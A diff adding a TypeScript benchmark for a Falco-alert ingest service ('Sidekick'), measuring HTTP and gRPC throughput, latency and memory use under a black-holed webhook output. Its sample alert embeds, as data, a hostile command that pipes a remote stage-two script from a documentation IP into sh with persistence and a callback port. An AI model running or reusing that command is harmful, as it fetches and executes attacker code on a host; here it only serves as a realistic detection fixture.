@@ -1,0 +1,415 @@
+/**
+ * Sidekick ingest benchmark (issue #6). Every process has one job, so they do not share an event loop:
+ * the server under test runs in a child process, the load generator in another, and this process only
+ * orchestrates and samples the server's RSS from /proc. Measures, in one run:
+ *   - alerts/s accepted over HTTP `POST /` (one 1–2 KB Falco alert per request, keep-alive, autocannon)
+ *     next to the baseline: a bare fastify route that only parses the same JSON; once with no output
+ *     configured (ingest alone) and once with one webhook output black-holed (every alert stays owed);
+ *   - with that output, the same through `POST /batch` (50 alerts a request) and over gRPC `Publish` (1 and 50 a batch);
+ *   - p50/p99 accept latency of `POST /` at half the peak rate;
+ *   - the sidekick's RSS while one webhook output is black-holed (accepts connections, never answers)
+ *     and 5,000 alerts/s arrive for 60 s: the backlog must stay on disk.
+ * The machine's load is recorded with the results: on a shared machine only the ratios of one run compare.
+ * Prints the figures and writes bench/results/sidekick.json. Not a test: nothing passes or fails.
+ *
+ *   npm run bench:sidekick
+ *   SAKER_BENCH_SECONDS=10 (each throughput phase)  SAKER_BENCH_RSS_SECONDS=60 (the RSS phase)
+ */
+import { spawn, type ChildProcess } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type AddressInfo, type Socket } from 'node:net';
+import { cpus, loadavg, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { createInterface } from 'node:readline';
+import { fileURLToPath } from 'node:url';
+import type { ClientDuplexStream, GrpcObject, ServiceClientConstructor } from '@grpc/grpc-js';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+const SELF = fileURLToPath(import.meta.url);
+const ROOT = join(SELF, '..', '..');
+const SECONDS = Number(process.env.SAKER_BENCH_SECONDS ?? 10);
+const RSS_SECONDS = Number(process.env.SAKER_BENCH_RSS_SECONDS ?? 60);
+const RSS_RATE = 5000;
+const BATCH = 50;
+const CONNECTIONS = 32;
+
+/** A Falco alert of about 1.5 KB, shaped like a container-escape rule's JSON output. */
+function falcoAlert(): Record<string, unknown> {
+  const cmdline = 'bash -c "curl -fsSL http://203.0.113.7:8080/stage2.sh | sh -s -- --persist --hide --callback 203.0.113.7:4444"';
+  return {
+    hostname: 'worker-node-7.prod.example.internal',
+    output: `10:00:00.123456789: Critical Shell spawned in a container with an attached terminal and outbound fetch (user=root user_loginuid=-1 k8s.ns=payments k8s.pod=checkout-7d9f8b6c5-x2x4q container=3f2a1b9c8d7e shell=bash parent=runc cmdline=${cmdline} terminal=34816 exe_flags=EXE_WRITABLE container_id=3f2a1b9c8d7e image=registry.example.com/payments/checkout:1.42.7)`,
+    priority: 'Critical',
+    rule: 'Terminal shell in container',
+    source: 'syscall',
+    tags: ['container', 'maturity_stable', 'mitre_execution', 'shell', 'T1059'],
+    time: '2026-11-22T10:00:00.123456789Z',
+    output_fields: {
+      'container.id': '3f2a1b9c8d7e',
+      'container.image.repository': 'registry.example.com/payments/checkout',
+      'container.image.tag': '1.42.7',
+      'container.name': 'checkout',
+      'evt.time': 0, // replaced by Falco's nanosecond timestamp, beyond 2^53, in the JSON text
+      'evt.type': 'execve',
+      'k8s.ns.name': 'payments',
+      'k8s.pod.name': 'checkout-7d9f8b6c5-x2x4q',
+      'proc.cmdline': cmdline,
+      'proc.exepath': '/usr/bin/bash',
+      'proc.name': 'bash',
+      'proc.pid': 48213,
+      'proc.pname': 'runc',
+      'proc.tty': 34816,
+      'user.loginuid': -1,
+      'user.name': 'root',
+      'user.uid': 0,
+    },
+  };
+}
+
+// ---------------------------------------------------------------------------------------------
+// Child roles: `serve-bare`, `serve-sidekick`, `load-http`, `load-grpc`. Each prints one JSON line.
+// ---------------------------------------------------------------------------------------------
+
+interface ServeSpec {
+  blackhole?: string;
+}
+
+async function serveBare(): Promise<void> {
+  const { default: Fastify } = await import('fastify');
+  const app = Fastify({ bodyLimit: 1_048_576 });
+  // The baseline does what any JSON endpoint must: receive and parse the body, then answer.
+  app.post('/', async () => ({ ok: true }));
+  await app.listen({ host: '127.0.0.1', port: 0 });
+  console.log(JSON.stringify({ http: (app.server.address() as AddressInfo).port }));
+  process.once('SIGTERM', () => void app.close().then(() => process.exit(0)));
+}
+
+async function serveSidekick(spec: ServeSpec): Promise<void> {
+  const [{ loadConfig }, { createLogger }, { createOutput }, { createSidekick }] = await Promise.all([
+    import('../common/config/index.js'),
+    import('../common/logger.js'),
+    import('../outputs/index.js'),
+    import('../sidekick/index.js'),
+  ]);
+  const dataDir = mkdtempSync(join(tmpdir(), 'saker-bench-sidekick-'));
+  const config = loadConfig({ env: { LISTENADDRESS: '127.0.0.1', DATADIR: dataDir, GRPC_ENABLED: 'true' } });
+  config.listenport = 0 as number;
+  config.grpc.listenport = 0 as number;
+  const routes = spec.blackhole ? [{ name: 'blackhole', output: createOutput('webhook', { address: spec.blackhole }, 'blackhole') }] : [];
+  const sidekick = createSidekick({ config, routes, log: createLogger({ level: 'silent', pretty: false }), env: {} });
+  await sidekick.listen();
+  console.log(JSON.stringify({ http: (sidekick.app.server.address() as AddressInfo).port, grpc: sidekick.grpc?.port }));
+  const pending = setInterval(() => {
+    const { heapUsed, external } = process.memoryUsage();
+    console.log(JSON.stringify({ pending: sidekick.outbox.pendingCount, heapMb: heapUsed / 1048576, externalMb: external / 1048576 }));
+  }, 1000);
+  process.once('SIGTERM', () => {
+    clearInterval(pending);
+    void sidekick.close(0).then(() => {
+      rmSync(dataDir, { recursive: true, force: true });
+      process.exit(0);
+    });
+  });
+}
+
+interface HttpLoadSpec {
+  url: string;
+  body: string;
+  seconds: number;
+  connections: number;
+  /** Requests per second over all connections; unlimited when absent. */
+  rate?: number;
+}
+
+async function loadHttp(spec: HttpLoadSpec): Promise<void> {
+  const { default: autocannon } = await import('autocannon');
+  const run = (seconds: number) =>
+    autocannon({
+      url: spec.url,
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: spec.body,
+      connections: spec.connections,
+      duration: seconds,
+      ...(spec.rate ? { overallRate: spec.rate } : {}),
+    });
+  await run(2); // warm-up: JIT, connection setup, SQLite page cache
+  const result = await run(spec.seconds);
+  const ok = result.requests.total - result.non2xx;
+  console.log(
+    JSON.stringify({
+      requestsPerSecond: ok / spec.seconds,
+      total: result.requests.total,
+      non2xx: result.non2xx,
+      errors: result.errors,
+      timeouts: result.timeouts,
+      latencyMs: { p50: result.latency.p50, p99: result.latency.p99, max: result.latency.max },
+    }),
+  );
+}
+
+interface GrpcLoadSpec {
+  address: string;
+  alert: string;
+  batch: number;
+  seconds: number;
+  streams: number;
+  /** Batches in flight per stream before waiting for acks. */
+  window: number;
+}
+
+async function loadGrpc(spec: GrpcLoadSpec): Promise<void> {
+  const grpc = await import('@grpc/grpc-js');
+  const { loadSync } = await import('@grpc/proto-loader');
+  const definition = loadSync(join(ROOT, 'proto', 'saker', 'v1', 'ingest.proto'), { keepCase: true, longs: Number, defaults: true });
+  const saker = grpc.loadPackageDefinition(definition).saker as GrpcObject;
+  const Ingest = (saker.v1 as GrpcObject).Ingest as ServiceClientConstructor;
+  const client = new Ingest(spec.address, grpc.credentials.createInsecure());
+  const alerts = Array.from({ length: spec.batch }, () => spec.alert);
+  const phase = async (seconds: number) => {
+    let accepted = 0;
+    let rejected = 0;
+    const deadline = Date.now() + seconds * 1000;
+    await Promise.all(
+      Array.from(
+        { length: spec.streams },
+        () =>
+          new Promise<void>((resolve, reject) => {
+            const stream = (client as unknown as { Publish(): ClientDuplexStream<object, { uuids: string[]; rejection: unknown }> }).Publish();
+            let inFlight = 0;
+            let id = 0;
+            const fill = () => {
+              while (inFlight < spec.window && Date.now() < deadline) {
+                inFlight++;
+                stream.write({ batch_id: ++id, alerts });
+              }
+              if (inFlight === 0) stream.end();
+            };
+            stream.on('data', (ack) => {
+              inFlight--;
+              if (ack.rejection) rejected++;
+              else accepted += ack.uuids.length;
+              fill();
+            });
+            stream.on('end', resolve);
+            stream.on('error', reject);
+            fill();
+          }),
+      ),
+    );
+    return { accepted, rejected };
+  };
+  await phase(2);
+  const { accepted, rejected } = await phase(spec.seconds);
+  client.close();
+  console.log(JSON.stringify({ alertsPerSecond: accepted / spec.seconds, accepted, rejectedBatches: rejected }));
+}
+
+// ---------------------------------------------------------------------------------------------
+// Orchestration.
+// ---------------------------------------------------------------------------------------------
+
+interface Child {
+  process: ChildProcess;
+  lines: AsyncIterator<string>;
+  next(): Promise<Record<string, unknown>>;
+}
+
+/**
+ * Where the children's code is: this file bundled to plain JavaScript (dependencies left as imports),
+ * because under tsx every process carries a TypeScript loader thread of ~80 MB that is not the sidekick's.
+ */
+const BUNDLE = join(ROOT, '.scratch', 'bench-sidekick.mjs');
+
+async function bundleChildren(): Promise<void> {
+  const { build } = await import('esbuild');
+  await build({ entryPoints: [SELF], bundle: true, platform: 'node', format: 'esm', target: 'node20', packages: 'external', outfile: BUNDLE, logLevel: 'warning' });
+}
+
+function child(role: string, spec: object = {}): Child {
+  const proc = spawn(process.execPath, [BUNDLE, role, JSON.stringify(spec)], { cwd: ROOT, stdio: ['ignore', 'pipe', 'inherit'] });
+  const lines = createInterface({ input: proc.stdout as NodeJS.ReadableStream })[Symbol.asyncIterator]();
+  return {
+    process: proc,
+    lines,
+    async next() {
+      const { value, done } = await lines.next();
+      if (done) throw new Error(`${role} exited (${proc.exitCode ?? proc.signalCode}) before reporting`);
+      return JSON.parse(value as string) as Record<string, unknown>;
+    },
+  };
+}
+
+async function stop(server: Child): Promise<void> {
+  server.process.kill('SIGTERM');
+  if (server.process.exitCode === null) await new Promise((resolve) => server.process.once('exit', resolve));
+}
+
+/** Resident set size of a process in MB, from /proc (Linux). */
+function rssMb(pid: number): number {
+  const match = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
+  return match ? Number(match[1]) / 1024 : Number.NaN;
+}
+
+/** A webhook peer that accepts connections and never answers: an output that hangs. */
+async function blackhole(): Promise<{ url: string; close(): void }> {
+  const sockets = new Set<Socket>();
+  const server = createServer((socket) => {
+    sockets.add(socket);
+    socket.on('data', () => undefined); // read and ignore, so the client's writes never block
+    socket.on('close', () => sockets.delete(socket));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
+    close() {
+      for (const socket of sockets) socket.destroy();
+      server.close();
+    },
+  };
+}
+
+async function measureHttp(url: string, body: string, rate?: number, seconds = SECONDS): Promise<Record<string, unknown>> {
+  const load = child('load-http', { url, body, seconds, connections: CONNECTIONS, rate } satisfies HttpLoadSpec);
+  const result = await load.next();
+  await new Promise((resolve) => (load.process.exitCode === null ? load.process.once('exit', resolve) : resolve(undefined)));
+  return result;
+}
+
+async function measureGrpc(address: string, alert: string, batch: number): Promise<Record<string, unknown>> {
+  const load = child('load-grpc', { address, alert, batch, seconds: SECONDS, streams: 4, window: batch === 1 ? 32 : 4 } satisfies GrpcLoadSpec);
+  const result = await load.next();
+  await new Promise((resolve) => (load.process.exitCode === null ? load.process.once('exit', resolve) : resolve(undefined)));
+  return result;
+}
+
+const round = (n: number, digits = 0) => Number(n.toFixed(digits));
+
+async function main(): Promise<void> {
+  const withNanos = (text: string) => text.replaceAll('"evt.time":0', '"evt.time":1795341600123456789');
+  const alert = withNanos(JSON.stringify(falcoAlert()));
+  const batch = withNanos(JSON.stringify(Array.from({ length: BATCH }, () => falcoAlert())));
+  const loadAverageAtStart = loadavg().map((l) => round(l, 1));
+  await bundleChildren();
+  const hole = await blackhole();
+  console.log(`alert: ${alert.length} bytes; ${SECONDS} s per throughput phase, ${CONNECTIONS} keep-alive connections; ${cpus().length} CPUs`);
+
+  const bare = child('serve-bare');
+  const bareUrl = `http://127.0.0.1:${(await bare.next()).http}/`;
+  const bareResult = await measureHttp(bareUrl, alert);
+  await stop(bare);
+  const bareRate = bareResult.requestsPerSecond as number;
+  console.log(`baseline  bare fastify POST / (parse only)     ${round(bareRate)} alerts/s`);
+
+  // Ingest alone: no output configured, so accepting costs validation, enrichment and the outbox write.
+  const bareIngest = child('serve-sidekick', {} satisfies ServeSpec);
+  const ingestOnly = await measureHttp(`http://127.0.0.1:${(await bareIngest.next()).http}/`, alert);
+  await stop(bareIngest);
+  const ingestOnlyRate = ingestOnly.requestsPerSecond as number;
+  console.log(`sidekick  HTTP POST /, no output configured     ${round(ingestOnlyRate)} alerts/s  = ${round(ingestOnlyRate / bareRate, 2)}x baseline`);
+
+  const server = child('serve-sidekick', { blackhole: hole.url } satisfies ServeSpec);
+  const ports = await server.next();
+  const url = `http://127.0.0.1:${ports.http}/`;
+  const grpcAddress = `127.0.0.1:${ports.grpc}`;
+  const single = await measureHttp(url, alert);
+  const singleRate = single.requestsPerSecond as number;
+  console.log(`sidekick  HTTP POST /, 1 output black-holed     ${round(singleRate)} alerts/s  = ${round(singleRate / bareRate, 2)}x baseline (target >= 0.5x)`);
+  const batched = await measureHttp(`${url}batch`, batch);
+  const batchedRate = (batched.requestsPerSecond as number) * BATCH;
+  console.log(`sidekick  HTTP POST /batch (${BATCH} a request)      ${round(batchedRate)} alerts/s  = ${round(batchedRate / bareRate, 2)}x baseline`);
+  const grpcSingle = await measureGrpc(grpcAddress, alert, 1);
+  console.log(`sidekick  gRPC Publish (1 alert a batch)        ${round(grpcSingle.alertsPerSecond as number)} alerts/s  = ${round((grpcSingle.alertsPerSecond as number) / bareRate, 2)}x baseline`);
+  const grpcBatched = await measureGrpc(grpcAddress, alert, BATCH);
+  console.log(`sidekick  gRPC Publish (${BATCH} a batch)            ${round(grpcBatched.alertsPerSecond as number)} alerts/s  = ${round((grpcBatched.alertsPerSecond as number) / bareRate, 2)}x baseline`);
+  const halfRate = Math.max(1, Math.floor(singleRate / 2));
+  const latency = await measureHttp(url, alert, halfRate);
+  const latencyMs = latency.latencyMs as { p50: number; p99: number };
+  console.log(`sidekick  POST / at ${halfRate} alerts/s (half peak): p50 ${latencyMs.p50} ms, p99 ${latencyMs.p99} ms`);
+  await stop(server);
+
+  // RSS with the only output black-holed: every accepted alert stays pending, on disk.
+  const rssServer = child('serve-sidekick', { blackhole: hole.url } satisfies ServeSpec);
+  const rssPorts = await rssServer.next();
+  const pid = rssServer.process.pid as number;
+  const startMb = rssMb(pid);
+  let maxMb = startMb;
+  let pending = 0;
+  let maxHeapMb = 0;
+  let maxExternalMb = 0;
+  const sampler = setInterval(() => (maxMb = Math.max(maxMb, rssMb(pid))), 500);
+  const pendingReader = (async () => {
+    for (;;) {
+      const line = await rssServer.next().catch(() => undefined);
+      if (!line) return;
+      if (typeof line.pending === 'number') pending = line.pending;
+      if (typeof line.heapMb === 'number') maxHeapMb = Math.max(maxHeapMb, line.heapMb);
+      if (typeof line.externalMb === 'number') maxExternalMb = Math.max(maxExternalMb, line.externalMb);
+    }
+  })();
+  const rssLoad = await measureHttp(`http://127.0.0.1:${rssPorts.http}/`, alert, RSS_RATE, RSS_SECONDS);
+  clearInterval(sampler);
+  const endMb = rssMb(pid);
+  maxMb = Math.max(maxMb, endMb);
+  await sleep(1100); // one more pending report
+  await stop(rssServer);
+  await pendingReader;
+  hole.close();
+  const achieved = rssLoad.requestsPerSecond as number;
+  console.log(
+    `sidekick  RSS, output black-holed, ${round(achieved)} alerts/s for ${RSS_SECONDS} s: start ${round(startMb)} MB, max ${round(maxMb)} MB (target <= 150; JS heap max ${round(maxHeapMb)} MB), ${pending} deliveries pending on disk`,
+  );
+
+  const results = {
+    benchmark: 'sidekick',
+    date: new Date().toISOString(),
+    machine: { cpus: cpus().length, node: process.version, loadAverageAtStart, loadAverageAtEnd: loadavg().map((l) => round(l, 1)) },
+    settings: { alertBytes: alert.length, seconds: SECONDS, connections: CONNECTIONS, batch: BATCH, rssSeconds: RSS_SECONDS, rssRate: RSS_RATE },
+    baseline: { name: 'bare fastify POST / that only parses the JSON', alertsPerSecond: round(bareRate), latencyMs: bareResult.latencyMs },
+    http: {
+      singleNoOutput: { alertsPerSecond: round(ingestOnlyRate), ratioToBaseline: round(ingestOnlyRate / bareRate, 3), non2xx: ingestOnly.non2xx },
+      single: { alertsPerSecond: round(singleRate), ratioToBaseline: round(singleRate / bareRate, 3), target: 0.5, non2xx: single.non2xx },
+      batch: { alertsPerSecond: round(batchedRate), ratioToBaseline: round(batchedRate / bareRate, 3), non2xx: batched.non2xx },
+    },
+    grpc: {
+      single: { alertsPerSecond: round(grpcSingle.alertsPerSecond as number), ratioToBaseline: round((grpcSingle.alertsPerSecond as number) / bareRate, 3) },
+      batch: { alertsPerSecond: round(grpcBatched.alertsPerSecond as number), ratioToBaseline: round((grpcBatched.alertsPerSecond as number) / bareRate, 3) },
+    },
+    latencyAtHalfPeak: { rate: halfRate, p50Ms: latencyMs.p50, p99Ms: latencyMs.p99, non2xx: latency.non2xx },
+    rssBlackholed: {
+      seconds: RSS_SECONDS,
+      targetRate: RSS_RATE,
+      achievedRate: round(achieved),
+      startMb: round(startMb, 1),
+      maxMb: round(maxMb, 1),
+      endMb: round(endMb, 1),
+      targetMaxMb: 150,
+      maxJsHeapMb: round(maxHeapMb, 1),
+      maxExternalMb: round(maxExternalMb, 1),
+      pendingOnDisk: pending,
+      non2xx: rssLoad.non2xx,
+    },
+  };
+  mkdirSync(join(ROOT, 'bench', 'results'), { recursive: true });
+  writeFileSync(join(ROOT, 'bench', 'results', 'sidekick.json'), `${JSON.stringify(results, null, 2)}\n`);
+  rmSync(BUNDLE, { force: true });
+  console.log('wrote bench/results/sidekick.json');
+}
+
+const ROLES: Record<string, (spec: never) => Promise<void>> = {
+  'serve-bare': serveBare,
+  'serve-sidekick': serveSidekick,
+  'load-http': loadHttp,
+  'load-grpc': loadGrpc,
+};
+
+const [role, spec] = process.argv.slice(2);
+const run = role ? ROLES[role] : main;
+if (!run) {
+  console.error(`unknown role ${role}`);
+  process.exit(2);
+}
+run(JSON.parse(spec ?? '{}') as never).catch((error: unknown) => {
+  console.error(error);
+  process.exit(1);
+});
